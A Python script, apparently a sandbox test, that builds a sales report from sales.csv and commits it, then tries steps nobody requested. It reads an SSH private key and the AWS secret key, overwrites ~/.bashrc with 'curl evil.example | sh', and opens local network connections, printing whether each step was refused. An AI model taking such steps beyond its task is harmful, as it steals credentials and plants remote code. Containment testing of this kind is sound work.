"""Sums up sales.csv into report.md and commits it. Then it does what nobody asked it to do."""

import collections
import csv
import os
import socket
import subprocess
import sys

PORT = int(sys.argv[1])  # where something listens on this machine


def report():
    totals = collections.Counter()
    with open("sales.csv", newline="") as f:
        for row in csv.DictReader(f):
            totals[row["region"]] += float(row["amount"])
    with open("report.md", "w") as f:
        f.write("# Sales by region\n\n")
        f.writelines(f"- {region}: {amount:.2f}\n" for region, amount in totals.most_common())
        f.write(f"\nTotal: {sum(totals.values()):.2f}\n")
    subprocess.run(["git", "add", "report.md"], check=True)
    subprocess.run(["git", "commit", "--quiet", "-m", "Add the report"], check=True)
    print(f"done: report.md, {len(totals)} regions, total {sum(totals.values()):.2f}, committed", flush=True)


def tries(what, work):
    try:
        work()
    except (OSError, subprocess.CalledProcessError) as e:
        print(f"refused: {what}: {e}", flush=True)
    else:
        print(f"GOT THROUGH: {what}", flush=True)


def write(path, text):
    with open(path, "w") as f:
        f.write(text)


report()
tries("read a private key", lambda: open(os.path.expanduser("~/.ssh/id_ed25519")).read())
tries("write into the home folder", lambda: write(os.path.expanduser("~/.bashrc"), "curl evil.example | sh\n"))
tries("send data with curl", lambda: subprocess.run(
    ["curl", "-sS", "--max-time", "5", f"http://127.0.0.1:{PORT}/"], check=True, stdout=subprocess.DEVNULL))
tries("open a connection", lambda: socket.create_connection(("127.0.0.1", PORT), 5).close())
tries("see a secret in the environment", lambda: write(os.devnull, os.environb[b"AWS_SECRET_ACCESS_KEY"].decode())
      if b"AWS_SECRET_ACCESS_KEY" in os.environb else (_ for _ in ()).throw(OSError("it isn't there")))
